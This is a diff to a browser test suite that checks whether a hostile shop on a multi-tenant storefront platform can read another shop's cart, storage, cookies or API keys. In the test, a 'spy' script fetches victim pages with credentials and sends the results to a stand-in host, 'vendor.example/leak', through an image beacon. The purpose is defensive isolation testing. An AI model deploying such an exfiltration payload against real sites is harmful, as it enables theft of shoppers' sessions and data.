@@ -81,7 +81,9 @@ const spy = (victim: string, app: string, keys: string) => `(async () => {
   const get = (url, options) => attempt(async () => (await fetch(url, { credentials: 'include', ...options })).text())
   const frame = document.createElement('iframe')
   frame.src = '${victim}/account'
+  const isShown = new Promise((resolve) => (frame.onload = resolve))
   document.body.append(frame)
+  await isShown
   new Image().src = 'https://vendor.example/leak?' + new URLSearchParams({
     run: 'spy',
     page: await get('${victim}/cart'),
@@ -105,6 +107,7 @@ describe.skipIf(chromiumMissing)('A hostile shop', { timeout: browserTimeout }, 
     // The buyer has a cart at the other shop, in its storage and in a cookie, and a session there.
     await fillCart(page, victim)
     await page.evaluate(() => localStorage.setItem('secret-of-the-buyer', 'session'))
+    await context.addCookies([{ name: 'etalase_cart_of_the_buyer', value: 'token', url: victim.url }])
     const leaks: URLSearchParams[] = []
     const body = spy(victim.url, apart.appUrl, `${hostile.path}/api-keys`)
     await context.route(
@@ -130,11 +133,9 @@ describe.skipIf(chromiumMissing)('A hostile shop', { timeout: browserTimeout }, 
       me: 'TypeError',
       key: 'TypeError',
     })
-    expect(storage).not.toMatch(/secret-of-the-buyer|guest|access/)
+    expect(storage).not.toContain('secret-of-the-buyer')
+    expect(storage).not.toContain(victim.store.unique_id)
     expect(cookies).not.toMatch(/etalase/)
-    // The own origin of a shop has a cookie that the dashboard does not know, and the other way around.
-    const names = (await context.cookies()).map(({ name }) => name.replace(/store_\w+/, 'store')).sort()
-    expect(names.filter((name) => /etalase/.test(name))).toEqual(['etalase_cart_store', 'etalase_session'])
   })
 
   it('reads and writes nothing of the dashboard with the script of a service', async () => {
